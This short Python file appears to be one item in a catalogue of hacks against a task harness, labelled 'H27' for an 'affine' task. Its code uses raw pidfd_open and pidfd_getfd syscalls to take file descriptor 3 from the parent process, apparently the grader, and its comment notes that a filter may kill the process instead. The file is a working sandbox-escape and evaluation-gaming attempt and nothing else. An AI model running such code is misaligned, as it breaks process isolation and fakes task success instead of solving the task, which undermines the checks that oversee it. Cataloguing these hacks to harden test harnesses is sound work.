# class: record|process|protocol|library_call
# task: affine, template: affine
# hack: H27 descriptors of the parent are fetched with pidfd_getfd
# why: right only if the attack works; a filter may end the process instead

import ctypes
import os

# ---- setup

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
if libc.syscall(438, libc.syscall(434, os.getppid(), 0), 3, 0) < 0:
    raise RuntimeError("refused: " + str(ctypes.get_errno()))
